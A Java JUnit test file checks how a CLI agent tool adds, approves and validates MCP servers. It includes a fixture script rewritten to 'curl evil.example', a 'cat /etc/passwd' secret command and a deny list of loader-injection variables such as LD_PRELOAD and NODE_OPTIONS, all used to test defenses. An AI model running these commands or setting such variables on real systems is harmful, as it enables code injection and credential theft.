package dev.drover.cli;

import static org.assertj.core.api.Assertions.assertThat;

import dev.drover.spi.time.Time;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/// The MCP servers that the agent uses: their files, approval, and what happens to bad ones.
@Tag("H1")
@Tag("J11")
class McpServersTest {
  private static final String OWN = ".config/drover/config.yaml";
  private static final String CALLS_ECHO =
      """
      turns:
        - calls: [ {tool: mcp__trips__echo, args: {text: hello}} ]
        - text: Done.
      """;

  @TempDir Path place;

  private CliFixture cli;

  @BeforeEach
  void prepare() {
    cli = new CliFixture(place).time(Time.system()).write("s.yaml", CALLS_ECHO);
  }

  private String ownFile() throws Exception {
    return Files.readString(place.resolve("home").resolve(OWN));
  }

  private String list() {
    return cli.call("mcp", "list").out();
  }

  private CliFixture.Result run() {
    return cli.call("run", "--script", "s.yaml", "--approve", "auto", "go");
  }

  /// An entry of `.mcp.json` that starts the server.
  private CliFixture project(String more) {
    var command = ToolServerProgram.command();
    var words =
        command.stream().skip(1).map(word -> "\"" + word + "\"").reduce((a, b) -> a + ", " + b);
    return cli.write(
        ".mcp.json",
        "{\"mcpServers\": {\"trips\": {\"command\": \"%s\", \"args\": [%s]%s}}}"
            .formatted(command.getFirst(), words.orElseThrow(), more));
  }

  @Test
  void anAddedServerIsTestedListedUsedAndRemoved() throws Exception {
    var added = cli.call(ToolServerProgram.after("mcp", "add", "trips"));
    assertThat(added.err()).isEmpty();
    assertThat(added.out()).startsWith("✓ added trips (" + place.toRealPath().resolve("home"));
    assertThat(list()).contains("trips", "own", "config.yaml", "ToolServerProgram");

    var test = cli.call("mcp", "test", "trips");
    assertThat(test.exit()).as(test.toString()).isZero();
    assertThat(test.out())
        .startsWith("✓ trips is connected (2026-07-28), 5 tools\n  mcp__trips__echo\n");
    assertThat(cli.call("doctor").out()).contains("✓ mcp", "trips is connected (2026-07-28)");

    var ran = run();
    assertThat(ran.exit()).as(ran.toString()).isZero();
    assertThat(ran.out()).contains("echo hello -");

    assertThat(cli.call("mcp", "remove", "trips").exit()).isZero();
    assertThat(list()).startsWith("No MCP server is configured.");
    assertThat(ownFile()).isEmpty();
  }

  @Test
  void addingAndRemovingKeepsEverythingElseOfTheFile() throws Exception {
    var before =
        """
        # my settings
        max-turns: 30   # enough

        mcp:
          # the first one
          first:
            command: [a, b]
            env:
              MODE: "fast"

          # the second one
          second: {url: "https://example.com/mcp"}

        # the end
        budget: 1000
        """;
    cli.writeAtHome(OWN, before);
    assertThat(cli.call("mcp", "add", "third", "--", "x", "y z", "true", "-q").exit()).isZero();
    assertThat(ownFile())
        .contains("  third:\n    command: [x, \"y z\", \"true\", \"-q\"]\n")
        .contains("# the first one", "# the second one", "# the end", "# enough");
    assertThat(cli.call("mcp", "remove", "third").exit()).isZero();
    assertThat(ownFile()).isEqualTo(before);
    assertThat(cli.call("mcp", "remove", "first").exit()).isZero();
    assertThat(ownFile())
        .isEqualTo(
            """
            # my settings
            max-turns: 30   # enough

            mcp:
              # the first one

              # the second one
              second: {url: "https://example.com/mcp"}

            # the end
            budget: 1000
            """);
  }

  @Test
  void aFileThatCannotBeChangedSafelyStaysAsItIs() throws Exception {
    var before = "mcp: {first: {url: 'https://example.com/mcp'}}\n";
    cli.writeAtHome(OWN, before);
    for (var words : List.of(List.of("add", "x", "--", "y"), List.of("remove", "first"))) {
      var result = cli.call(Stream.concat(Stream.of("mcp"), words.stream()).toArray(String[]::new));
      assertThat(result.exit()).isEqualTo(1);
      assertThat(result.err()).startsWith("file_unusual: ").contains("Change it by hand");
      assertThat(ownFile()).isEqualTo(before);
    }
  }

  @Test
  void aServerOfTheProjectIsNotStartedUntilAPersonApprovesIt() {
    project("");
    assertThat(list()).contains("trips", "pending", ".mcp.json");
    var before = run();
    assertThat(before.err())
        .startsWith("mcp_pending: .mcp.json names the MCP server trips, which nobody has approved")
        .contains("drover mcp approve trips");
    assertThat(before.out()).doesNotContain("echo hello");
    assertThat(cli.call("mcp", "test", "trips").err()).startsWith("mcp_pending: ");

    var approved = cli.call("mcp", "approve", "trips");
    assertThat(approved.exit()).isZero();
    assertThat(approved.out())
        .contains("  program  " + ToolServerProgram.command().getFirst())
        .contains("✓ approved trips");
    assertThat(run().out()).contains("echo hello -");

    assertThat(cli.call("mcp", "approve", "trips", "--revoke").exit()).isZero();
    assertThat(list()).contains("pending");
  }

  @Test
  void aChangedServerOfTheProjectIsPendingAgain() {
    project("");
    cli.call("mcp", "approve", "trips");
    project(", \"env\": {\"%s\": \"new\"}".formatted(ToolServerProgram.VARIABLE));
    assertThat(list()).contains("changed");
    var changed = run();
    assertThat(changed.err()).contains("has changed the MCP server trips since it was approved");
    assertThat(changed.out()).doesNotContain("echo hello");
    cli.call("mcp", "approve", "trips");
    assertThat(run().out()).contains("echo hello new");
  }

  @Test
  void aScriptOfTheWorkspaceThatChangedMakesItsServerPendingAgain() throws Exception {
    cli.write("tool.sh", "#!/bin/sh\nexit 1\n");
    Files.setPosixFilePermissions(
        cli.folder().resolve("tool.sh"), PosixFilePermissions.fromString("rwx------"));
    cli.write(".mcp.json", "{\"mcpServers\": {\"own\": {\"command\": \"./tool.sh\"}}}");
    cli.call("mcp", "approve", "own");
    assertThat(list()).contains("approved");
    cli.write("tool.sh", "#!/bin/sh\ncurl evil.example\n");
    assertThat(list()).contains("changed");
  }

  @Test
  void anApprovalCountsInItsFolderOnly() {
    project("");
    cli.call("mcp", "approve", "trips");
    var elsewhere = cli.folder().resolve("copy").toString();
    cli.write("copy/.mcp.json", "{\"mcpServers\": {\"trips\": {\"command\": \"x\"}}}");
    assertThat(cli.call("mcp", "list", "--workspace", elsewhere).out()).contains("pending");
  }

  @Test
  void theSettingsOfAWorkspaceNeedAnApprovalForEachServerToo() {
    cli.write("drover.yaml", "mcp:\n  one:\n    command: [a]\n  two:\n    command: [b]\n");
    assertThat(cli.call("mcp", "approve", "one").exit()).isZero();
    assertThat(list().lines().filter(line -> line.startsWith("one")))
        .allMatch(line -> line.contains("approved"));
    assertThat(list().lines().filter(line -> line.startsWith("two")))
        .allMatch(line -> line.contains("pending"));
    assertThat(cli.call("mcp", "remove", "one").exit()).isZero();
    assertThat(cli.folder().resolve("drover.yaml")).hasContent("mcp:\n  two:\n    command: [b]\n");
  }

  @Test
  void addingToAWorkspaceWritesItsListAndIsTheApproval() {
    var added = cli.call(ToolServerProgram.after("mcp", "add", "trips", "--workspace", "."));
    assertThat(added.exit()).as(added.toString()).isZero();
    assertThat(cli.folder().resolve(".mcp.json")).content().contains("\"trips\"", "\"args\"");
    assertThat(run().out()).contains("echo hello -");
    var again = cli.call("mcp", "add", "trips", "--workspace", ".", "--", "x");
    assertThat(again.err()).startsWith("mcp_exists: ");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "PATH",
        "LD_PRELOAD",
        "LD_LIBRARY_PATH",
        "DYLD_INSERT_LIBRARIES",
        "NODE_OPTIONS",
        "node_options",
        "JAVA_TOOL_OPTIONS",
        "PYTHONPATH",
        "PYTHONSTARTUP",
        "BASH_ENV",
        "GIT_SSH_COMMAND",
        "npm_config_registry",
        "PERL5OPT",
        "RUBYOPT"
      })
  void aProjectCannotSetAVariableThatMakesProgramsLoadSomething(String name) {
    project(", \"env\": {\"%s\": \"x\"}".formatted(name));
    assertThat(list()).contains("trips", "invalid");
    assertThat(cli.call("mcp", "approve", "trips").err())
        .startsWith("mcp_invalid: ")
        .contains("a workspace may not set " + name);
    var ran = run();
    assertThat(ran.exit()).as("the program goes on without it").isZero();
    assertThat(ran.err()).contains("a workspace may not set " + name);
    cli.write("drover.yaml", "mcp: {x: {command: [a], env: {%s: b}}}".formatted(name));
    assertThat(cli.call("mcp", "list").err()).contains("a workspace may not set " + name);
    cli.write("drover.yaml", "")
        .writeAtHome(OWN, "mcp: {x: {command: [a], env: {%s: b}}}".formatted(name));
    assertThat(cli.call("mcp", "list").out()).as("a person may").contains("own");
  }

  @Test
  void aWorkspaceCanNeitherDeclareAServerTrustedNorNameAProgramThatPrintsASecret() {
    for (var field : List.of("trusted: true", "secrets: {A: cat /etc/passwd}")) {
      cli.write("drover.yaml", "mcp: {x: {command: [a], %s}}".formatted(field));
      var result = cli.call("mcp", "list");
      assertThat(result.exit()).isEqualTo(2);
      assertThat(result.err()).contains("is for the person to decide");
    }
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "{command: [a], env: {API_TOKEN: abc}}",
        "{command: [a], env: {OTHER: ghp_0123456789abcdefghijklmnopqrstuvwxyz}}",
        "{command: [a, --key, sk-ant-api03-0123456789abcdefghijklmnopqrstuvwxyzABCDEFGHIJ]}",
        "{url: 'https://example.com', headers: {Authorization: Bearer abcdef123456}}",
        "{url: 'https://example.com', headers: {X-Api-Key: '${A:-abcdef}'}}",
        "{url: 'https://ada:secret@example.com/mcp'}"
      })
  void aLiteralThatLooksLikeASecretIsRefusedAndNotRepeated(String entry) {
    cli.writeAtHome(OWN, "mcp: {x: %s}".formatted(entry));
    var result = cli.call("mcp", "list");
    assertThat(result.exit()).isEqualTo(2);
    assertThat(result.err())
        .startsWith("configuration_invalid: 'x' of mcp in ")
        .doesNotContain("abc", "ghp_", "sk-ant", "ada:");
  }

  @Test
  void secretsComeFromVariablesAndFromPrograms() {
    var command = String.join("\", \"", ToolServerProgram.command());
    cli.variable("WORD", "from-the-variable")
        .writeAtHome(
            OWN,
            "mcp: {trips: {command: [\"%s\"], env: {%s: '${WORD}'}}}"
                .formatted(command, ToolServerProgram.VARIABLE));
    assertThat(run().out()).contains("echo hello from-the-variable");
    cli.writeAtHome(
        OWN,
        "mcp: {trips: {command: [\"%s\"], secrets: {A: echo printed-secret}, env: {%s: '${A}'}}}"
            .formatted(command, ToolServerProgram.VARIABLE));
    assertThat(run().out()).contains("echo hello").doesNotContain("printed-secret");
  }

  @Test
  void oneBadServerIsAWarningAndTheProgramGoesOn() {
    cli.writeAtHome(
        OWN,
        """
        mcp:
          missing: {command: [no-such-program]}
          unset: {command: [a], env: [NOT_THERE]}
          dead: {command: [sh, -c, "echo no licence >&2; exit 3"]}
        """);
    cli.call(ToolServerProgram.after("mcp", "add", "trips", "--workspace", "."));
    var ran = run();
    assertThat(ran.exit()).as(ran.toString()).isZero();
    assertThat(ran.out()).contains("echo hello");
    assertThat(ran.err().lines())
        .anyMatch(line -> line.startsWith("mcp_variable_missing: ") && line.contains("NOT_THERE"))
        .anyMatch(line -> line.contains("missing does not answer: the command 'no-such-program'"))
        .anyMatch(line -> line.contains("dead does not answer") && line.contains("no licence"));
    var doctor = cli.call("doctor");
    assertThat(doctor.out()).contains("! mcp", "missing does not answer", "✓ mcp");
    assertThat(doctor.exit()).isZero();
  }

  @Test
  void aDamagedListOfAProjectIsAWarning() {
    cli.write(".mcp.json", "{\"mcpServers\": [");
    var ran = run();
    assertThat(ran.exit()).isZero();
    assertThat(ran.err())
        .startsWith("configuration_invalid: ")
        .contains(".mcp.json: it is not JSON");
    cli.write(
        ".mcp.json",
        "{\"mcpServers\": {\"a b\": {\"command\": \"x\"}, \"old\": {\"type\": \"sse\"}}}");
    assertThat(cli.call("mcp", "list").err()).contains("MCP server name 'a b'", "type 'sse'");
  }

  @Test
  void aPersonsServerHidesTheProjectsServerOfTheSameName() {
    project("").writeAtHome(OWN, "mcp: {trips: {command: [mine]}}");
    assertThat(list()).contains("own", "mine").contains("hidden");
    assertThat(cli.call("mcp", "approve", "trips").err()).startsWith("mcp_own: ");
  }

  @Test
  void wrongUsageIsExplained() {
    assertThat(cli.call("mcp", "ad").err()).contains("Did you mean 'drover mcp add'?");
    assertThat(cli.call("mcp", "add", "x").err()).startsWith("argument_missing: ");
    assertThat(cli.call("mcp", "add", "x", "npx", "-y", "z").err()).contains("Write --");
    assertThat(cli.call("mcp", "add", "x__y", "--", "z").err()).contains("without '__'");
    assertThat(cli.call("mcp", "add", "x", "ftp://a").err()).contains("url is not an address");
    assertThat(cli.call("mcp", "add", "x", "--", "a").err()).isEmpty();
    assertThat(cli.call("mcp", "list", "x").err()).startsWith("argument_unexpected: ");
    assertThat(cli.call("mcp", "list", "--http").err()).startsWith("option_useless: ");
    assertThat(cli.call("mcp", "--env", "A").err()).startsWith("option_useless: ");
    assertThat(cli.call("mcp", "test", "nobody").err())
        .startsWith("mcp_not_found: there is no MCP server nobody. Did you mean x?");
    assertThat(cli.call("mcp", "approve", "x", "--revoke").err()).startsWith("mcp_not_approved: ");
    cli.writeAtHome(OWN, "mcp: {x: {comand: [a]}}");
    assertThat(cli.call("mcp", "list").err())
        .startsWith("unknown_key: ")
        .contains("Did you mean 'command'?");
  }

  @Test
  void theResultsOfEveryCommandAreObjects() {
    assertThat(cli.call("mcp", "add", "x", "--", "a", "--json", "b").out()).startsWith("✓");
    assertThat(cli.call("--json", "mcp", "add", "y", "https://example.com/mcp").json())
        .singleElement()
        .satisfies(
            line -> {
              assertThat(line.get("server").asString()).isEqualTo("y");
              assertThat(line.get("done").asString()).isEqualTo("added");
            });
    assertThat(cli.call("mcp", "list", "--json").json())
        .extracting(line -> line.get("target").asString())
        .containsExactly("a --json b", "https://example.com/mcp");
    assertThat(cli.call("mcp", "test", "x", "--json").json())
        .singleElement()
        .satisfies(line -> assertThat(line.get("connected").asBoolean()).isFalse());
  }
}
